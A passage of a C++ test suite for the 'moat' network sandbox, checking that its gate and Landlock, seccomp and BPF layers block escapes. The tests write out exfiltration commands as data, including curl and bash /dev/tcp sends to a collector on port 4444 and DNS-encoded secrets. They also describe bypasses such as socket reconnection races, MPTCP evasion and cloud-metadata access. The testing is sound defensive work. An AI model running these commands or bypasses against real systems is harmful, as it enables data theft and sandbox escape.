  std::string exfil = "exfil-" + sb().tag() + ".collector-unlisted.test";
  for (char& c : exfil) c = static_cast<char>(tolower(static_cast<unsigned char>(c)));
  RunResult r = sb().moat(py({"resolve", "collector-unlisted.test"}), gate_args());
  EXPECT_EQ(result_line(r).rfind("ERR gaierror", 0), 0u) << r.describe();
  // Straight to the stub: NXDOMAIN (rcode 3) for a name that is not allowed.
  r = sb().moat(py({"dns-udp", "127.0.0.53", exfil}), gate_args());
  EXPECT_EQ(result_line(r), "OK answered rcode=3 ancount=0") << r.describe();
  auto ev = audit_matching(audit(), {"\"kind\":\"dns\"", "\"verdict\":\"refused\"",
                                     "\"name\":\"" + exfil + "\""});
  EXPECT_FALSE(ev.empty()) << "no refused dns event in the audit:\n" << audit();
  // Attributed to the process that asked (python), not left anonymous.
  for (const std::string& e : ev) {
    EXPECT_NE(e.find("\"exe\":\"/usr/bin/python3"), std::string::npos) << e;
  }
  // Allowed name through the stub: answered with the registry (the stub works; the NXDOMAIN is policy).
  r = sb().moat(py({"dns-udp", "127.0.0.53", "registry.test"}), gate_args());
  EXPECT_EQ(result_line(r), "OK answered rcode=0 ancount=1") << r.describe();
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  auto got = lab().collector_since(n0);
  EXPECT_TRUE(got.empty()) << "the collector received DNS traffic:\n" << join_lines(got);
}

TEST_P(Net, DnsExfilToCollectorAsResolver) {
  // Data encoded under an ALLOWED domain, sent to the collector as if it were a resolver.
  std::string name = "6d6f61742d736563726574." + sb().tag() + ".registry.test";
  RunResult r = blocked(py({"dns-udp", lab().collector4(), name}), "DNS over UDP to the collector");
  EXPECT_EQ(result_line(r).find("answered"), std::string::npos) << r.describe();
  r = blocked(py({"dns-tcp", lab().collector4(), name}), "DNS over TCP to the collector");
  EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
}

TEST_P(Net, IoUringConnectToCollector) {
  RunResult r = blocked(Sandbox::probe({"io-uring-connect", lab().collector4(), "4444"}), "io_uring connect", true);
  EXPECT_FALSE(r.probe_ok()) << r.describe();
  EXPECT_NE(r.probe_line().find("io_uring_setup"), std::string::npos)
      << "io_uring_setup must be refused by seccomp\n" << r.describe();
}

TEST_P(Net, HostLoopbackListenerUnreachable) {
  HostLoopbackListener l;
  ASSERT_TRUE(l.ok());
  std::string p = std::to_string(l.port());
  RunResult c = sb().direct(Sandbox::probe({"connect-tcp", "127.0.0.1", p}));
  EXPECT_TRUE(c.probe_ok()) << "CONTROL (no moat) could not reach the host listener\n" << c.describe();
  EXPECT_EQ(l.accept_all(), 1) << "CONTROL: the host listener did not see the connection";
  RunResult r = sb().moat(Sandbox::probe({"connect-tcp", "127.0.0.1", p}), gate_args());
  EXPECT_NE(r.probe_line(), "") << r.describe();
  EXPECT_FALSE(r.probe_ok()) << "127.0.0.1 inside reached something\n" << r.describe();
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  EXPECT_EQ(l.accept_all(), 0) << "ESCAPE: the host's loopback listener accepted a connection from the sandbox\n"
                               << r.describe();
}

// The socket an allowed connect gets was made by the gate, in the host's network namespace: an
// address rule's upstream socket, the relay's end for a name, the kernel-checked socket on 443.
// Disconnected with connect(AF_UNSPEC) and connected again it would reach the host's loopback
// (and, with the sockaddr rewritten after the gate read it, anything the host reaches). Each
// handed-over socket must refuse both; nothing may arrive at a listener on the host's loopback.
TEST_P(Net, HandedOverSocketCannotBeReconnected) {
  HostLoopbackListener l;
  ASSERT_TRUE(l.ok());
  const std::string http = std::to_string(NetLab::kRegistryHttpPort);
  const std::string tls = std::to_string(NetLab::kRegistryTlsPort);
  std::vector<std::string> args = gate_args();
  args.insert(args.end(), {"--allow-host", lab().registry4() + ":" + http});
  const std::vector<std::pair<std::string, std::string>> targets = {
      {lab().registry4(), http},  // address rule: the gate's own upstream socket
      {"registry.test", http},    // name rule, plain HTTP: the relay's end
      {"registry.test", tls},     // name rule on 443: the kernel-checked socket (root), or relay
  };
  for (const auto& [host, port] : targets) {
    RunResult r = sb().moat(
        Sandbox::probe({"reconnect-tcp", host, port, "127.0.0.1", std::to_string(l.port())}), args);
    EXPECT_NE(r.probe_line(), "") << r.describe();
    EXPECT_FALSE(r.probe_ok()) << "a handed-over socket connected again\n" << r.describe();
    EXPECT_NE(r.probe_line().find("unix-family EACCES unspec EACCES"), std::string::npos)
        << host << ":" << port << ": the gate let a connect on its socket through\n"
        << r.describe();
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    EXPECT_EQ(l.accept_all(), 0) << "ESCAPE: the host's loopback listener accepted a connection "
                                    "over a socket the gate handed to the sandbox\n"
                                 << r.describe();
  }
  EXPECT_NE(audit().find("cannot be disconnected, connected again"), std::string::npos);
}

// Once its connection has ended, a socket the gate handed over is a closed TCP socket of the
// host's network namespace, and the kernel lets a closed socket start again: TCP Fast Open's
// sendto() connects it anywhere the host reaches (no connect() for the gate to see), bind()
// takes a port of the host, listen() would take connections from the network. Each must be
// refused; checked from outside: the host's loopback listener gets nothing, and the port stays
// free and unanswered while the sandbox runs.
TEST_P(Net, EndedConnectionCannotBeReused) {
  HostLoopbackListener l;
  ASSERT_TRUE(l.ok());
  HostPortWatch host_port;
  ASSERT_NE(host_port.port(), 0);
  const std::string http = std::to_string(NetLab::kRegistryHttpPort);
  std::vector<std::string> args = gate_args();
  args.insert(args.end(), {"--allow-host", lab().registry4() + ":" + http});
  const std::vector<std::pair<std::string, std::string>> targets = {
      {lab().registry4(), http},  // address rule: the gate's own upstream socket
      {"registry.test", http},    // name rule: the relay's end
  };
  for (const auto& [host, port] : targets) {
    RunResult r =
        sb().moat(Sandbox::probe({"reuse-closed-tcp", host, port, "127.0.0.1",
                                  std::to_string(l.port()), std::to_string(host_port.port())}),
                  args);
    EXPECT_FALSE(r.probe_ok()) << host << ":" << port << ": a closed socket of the gate's came "
                               << "back to life\n"
                               << r.describe();
    EXPECT_NE(r.probe_line().find("fastopen EACCES fastopen EACCES connect EACCES connect EACCES "
                                  "bind EACCES listen EACCES"),
              std::string::npos)
        << host << ":" << port << "\n"
        << r.describe();
  }
  host_port.stop();
  std::this_thread::sleep_for(std::chrono::milliseconds(100));
  EXPECT_EQ(l.accept_all(), 0) << "ESCAPE: the host's loopback listener accepted a connection";
  EXPECT_EQ(host_port.reached(), 0) << "ESCAPE: the sandbox listened on a port of the host";
  EXPECT_EQ(host_port.taken(), 0) << "the sandbox took a port of the host";
  EXPECT_FALSE(audit_matching(audit(), {"\"call\":\"bind\"", "\"verdict\":\"refused\""}).empty())
      << audit();
}

// The descriptor-swap race (probe race-swap-connect): a unix connect the gate checked and let
// through, acting on a socket the gate handed over once the kernel runs it, first to disconnect
// it, then to connect it to the host's loopback. Asked for as MPTCP, which Landlock's TCP rules
// do not cover (it reached the host's loopback as an unprivileged user in a second). Checked
// from outside: the listener on the host's loopback receives nothing.
TEST_P(Net, SwappedDescriptorRaceReachesNothing) {
  HostLoopbackListener l;
  ASSERT_TRUE(l.ok());
  const std::string http = std::to_string(NetLab::kRegistryHttpPort);
  std::vector<std::string> args = gate_args();
  args.insert(args.end(), {"--allow-host", lab().registry4() + ":" + http});
  RunResult r = sb().moat(Sandbox::probe({"race-swap-connect", lab().registry4(), http, "127.0.0.1",
                                          std::to_string(l.port()), "2"}),
                          args);
  EXPECT_NE(r.probe_line(), "") << r.describe();
  EXPECT_FALSE(r.probe_ok()) << "ESCAPE: a handed-over socket was connected again\n"
                             << r.describe();
  EXPECT_NE(r.probe_line().find("tcp tries"), std::string::npos) << r.describe();
  EXPECT_EQ(r.probe_line().find("mptcp"), std::string::npos)
      << "MPTCP sockets must be refused in allowlist mode\n"
      << r.describe();
  std::this_thread::sleep_for(std::chrono::milliseconds(100));
  EXPECT_EQ(l.accept_all(), 0) << "ESCAPE: the host's loopback listener accepted a connection\n"
                               << r.describe();
}

TEST_P(Net, CloudMetadataRefusedQuickly) {
  // No control that sends to 169.254.169.254 (the lab never touches other addresses); the proof that
  // the gate decided is EACCES (inside, a missing route would give ENETUNREACH) plus the audit event.
  RunResult r = sb().moat(Sandbox::probe({"connect-tcp", "169.254.169.254", "80"}), gate_args());
  EXPECT_EQ(r.probe_errno(), "EACCES") << r.describe();
  EXPECT_LT(r.seconds, 1.0) << "the metadata address must be refused at once, not hang\n" << r.describe();
  auto ev = audit_matching(audit(), {"\"kind\":\"connect\"", "\"verdict\":\"refused\"", "169.254.169.254"});
  EXPECT_FALSE(ev.empty()) << "no refused connect event for 169.254.169.254:\n" << audit();
}

TEST_P(Net, ExitSummaryReportsRefusals) {
  RunResult r = attack(Sandbox::probe({"connect-tcp", lab().collector4(), "4444"}), "summary", true);
  EXPECT_NE(r.err.find("moat: refused ("), std::string::npos) << r.describe();
  EXPECT_NE(r.err.find(lab().collector4()), std::string::npos) << r.describe();
}

// `--add-host NAME=ADDR` only answers NAME in the sandbox's DNS (like docker's --add-host); it does
// not allow it. (This test caught moat treating every static host as allowed.)
TEST_P(Net, AddHostAloneDoesNotAllow) {
  P args = gate_args();
  args.insert(args.end(), {"--add-host", "collector.test=" + lab().collector4()});
  size_t n0 = lab().collector_count();
  RunResult r = sb().moat(shell("curl --noproxy '*' -sS -m 3 http://collector.test:4444/"), args);
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  auto got = lab().collector_since(n0);
  EXPECT_TRUE(got.empty()) << "a name given only to --add-host was reachable:\n" << join_lines(got)
                           << r.describe();
}

INSTANTIATE_TEST_SUITE_P(Identities, Net, ::testing::Values(Identity::kRoot, Identity::kUser),
                         IdentityName());

// ---- tier landlock: no network namespace ---------------------------------------------------------
// The same lab with `--tier landlock`: the sandbox shares the host's network. The gate brokers
// connect() (Landlock refuses any TCP connect it did not make, seccomp refuses datagram sockets,
// port 53 anywhere is the stub); with root the cgroup BPF layer allows only the stub, the address
// rules and the handed-out addresses. Every configuration runs the core attacks: both layers (root
// and user; the user has no BPF), then, as root, each layer ALONE (MOAT_TEST_ONLY_LAYER), which
// must stop them on its own. Controls run once per attack, not per configuration.
class LandlockNet : public Net {
 protected:
  struct Layers {
    const char* name;
    const char* only;  // MOAT_TEST_ONLY_LAYER, or "" for both
  };
  std::vector<Layers> configurations() const {
    if (!as_root()) return {{"gate (no BPF without root)", ""}};
    return {{"gate + kernel", ""}, {"gate alone", "gate"}, {"kernel alone", "kernel"}};
  }
  void use(const Layers& l) {
    extra_args_ = {"--tier", "landlock"};
    extra_env_.clear();
    if (*l.only != '\0') extra_env_.push_back({"MOAT_TEST_ONLY_LAYER", l.only});
  }
  RunSpec layer_spec() const {
    RunSpec spec;
    spec.env = extra_env_;
    return spec;
  }
};

TEST_P(LandlockNet, AllowedPathWorks) {
  for (const Layers& l : configurations()) {
    SCOPED_TRACE(l.name);
    use(l);
    RunResult r = allowed(shell("curl --noproxy '*' -sS -m 5 " + reg_url()), "curl by name");
    EXPECT_EQ(result_line(r), "rc=0") << r.describe();
    r = allowed(shell("curl --noproxy '*' -sS -m 5 http://" + lab().registry4() + ":" +
                      std::to_string(NetLab::kRegistryHttpPort) + "/"),
                "curl by address rule",
                {"--allow-host", lab().registry4() + ":" + std::to_string(NetLab::kRegistryHttpPort)});
    EXPECT_EQ(result_line(r), "rc=0") << r.describe();
    r = allowed(py({"urllib", reg_url()}), "python urllib");
    EXPECT_EQ(result_line(r).rfind("OK ", 0), 0u) << r.describe();
  }
}

TEST_P(LandlockNet, TcpAttacksReachNothing) {
  const std::string col = lab().collector4();
  const P curl_addr = shell("curl --noproxy '*' -sS -m 3 http://" + col + ":4444/");
  const P py_tcp = py({"tcp", col, "4444", sb().canary("lltcp")});
  const P dev_tcp = {"/bin/bash", "-c",
                     "exec 3<>/dev/tcp/" + col + "/4444 && echo EXFIL >&3; echo \"RESULT rc=$?\""};
  control_reaches_collector(curl_addr, "curl to collector:4444");
  control_reaches_collector(py_tcp, "python socket");
  control_reaches_collector(dev_tcp, "bash /dev/tcp");
  for (const Layers& l : configurations()) {
    SCOPED_TRACE(l.name);
    use(l);
    RunResult r = attack(shell("curl --noproxy '*' -sS -m 3 http://collector.test:4444/"),
                         "curl collector.test");
    EXPECT_NE(result_line(r), "rc=0") << r.describe();
    r = attack(curl_addr, "curl by address");
    EXPECT_NE(result_line(r), "rc=0") << r.describe();
    r = attack(py_tcp, "python socket");
    EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
    r = attack(dev_tcp, "bash /dev/tcp odd port");
    EXPECT_NE(result_line(r), "rc=0") << r.describe();
    // listen() without bind() binds an ephemeral port of every host address, past Landlock's
    // bind rule: an inbound channel. Refused.
    r = attack(py({"listen"}), "python listen without bind");
    EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
    // Landlock's TCP rules do not cover MPTCP (262) or SMC (256): no such socket is made, so a
    // connect() the gate passes on (a sockaddr rewritten after its check) meets Landlock.
    for (const char* protocol : {"262", "256"}) {
      r = attack(py({"tcp-proto", protocol, col, "4444", sb().canary("llproto")}),
                 std::string("python socket protocol ") + protocol);
      EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
      // Refused when made (seccomp: EPROTONOSUPPORT; the kernel layer alone: EPERM), not only
      // at a connect() the gate sees.
      EXPECT_TRUE(result_line(r).find("[Errno 93]") != std::string::npos ||
                  result_line(r).find("[Errno 1]") != std::string::npos)
          << r.describe();
    }
    r = sb().moat(Sandbox::probe({"connect-tcp", "169.254.169.254", "80"}), gate_args(),
                  layer_spec());
    EXPECT_NE(r.probe_line(), "") << r.describe();
    EXPECT_FALSE(r.probe_ok()) << r.describe();
    EXPECT_LT(r.seconds, 2.0) << "the metadata address must be refused at once\n" << r.describe();
  }
}

TEST_P(LandlockNet, UdpAndDnsAttacksReachNothing) {
  const std::string col = lab().collector4();
  const std::string name = "6d6f61742d736563726574." + sb().tag() + ".registry.test";
  const P udp = py({"udp", col, "4444", sb().canary("lludp")});
  const P udp_connected = py({"udp-connected", col, "4444", sb().canary("lludpc")});
  const P dns_sendto = py({"dns-udp", col, name});
  const P dns_connected = py({"dns-udp-connected", col, name});
  const P dns_tcp = py({"dns-tcp", col, name});
  control_reaches_collector(udp, "udp sendto");
  control_reaches_collector(udp_connected, "connected udp");
  control_reaches_collector(dns_sendto, "DNS sendto to the collector");
  control_reaches_collector(dns_connected, "DNS connect+send to the collector");
  control_reaches_collector(dns_tcp, "DNS over TCP to the collector");
  for (const Layers& l : configurations()) {
    SCOPED_TRACE(l.name);
    use(l);
    attack(udp, "udp sendto");
    attack(udp_connected, "connected udp");
    // Port 53 anywhere is the stub: a DNS packet aimed at the collector is refused or answered
    // by moat (NXDOMAIN), never delivered.
    RunResult r = attack(dns_sendto, "DNS sendto to the collector");
    EXPECT_EQ(result_line(r).find("rcode=0"), std::string::npos) << r.describe();
    r = attack(dns_connected, "DNS connect+send to the collector");
    EXPECT_EQ(result_line(r).find("rcode=0"), std::string::npos) << r.describe();
    attack(dns_tcp, "DNS over TCP to the collector");
    r = attack(shell("getent hosts collector-unlisted.test"), "getent of a name not allowed");
    EXPECT_NE(result_line(r), "rc=0") << r.describe();
    // The stub answers allowed names in this tier too.
    r = sb().moat(py({"resolve", "registry.test"}), gate_args(), layer_spec());
    EXPECT_EQ(result_line(r), "OK " + lab().registry4()) << r.describe();
  }
}

TEST_P(LandlockNet, HostLoopbackListenerUnreachable) {
  HostLoopbackListener listener;
  ASSERT_TRUE(listener.ok());
  const std::string port = std::to_string(listener.port());
  RunResult c = sb().direct(Sandbox::probe({"connect-tcp", "127.0.0.1", port}));
  EXPECT_TRUE(c.probe_ok()) << "CONTROL could not reach the host listener\n" << c.describe();
  EXPECT_EQ(listener.accept_all(), 1) << "CONTROL: the host listener did not see the connection";
  for (const Layers& l : configurations()) {
    SCOPED_TRACE(l.name);
    use(l);
    RunResult r = sb().moat(Sandbox::probe({"connect-tcp", "127.0.0.1", port}), gate_args(),
                            layer_spec());
    EXPECT_NE(r.probe_line(), "") << r.describe();
    EXPECT_FALSE(r.probe_ok()) << r.describe();
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
    EXPECT_EQ(listener.accept_all(), 0)
        << "ESCAPE: the host's loopback listener accepted a connection\n" << r.describe();
  }
}

INSTANTIATE_TEST_SUITE_P(Identities, LandlockNet,
                         ::testing::Values(Identity::kRoot, Identity::kUser), IdentityName());

}  // namespace
}  // namespace moat::testing
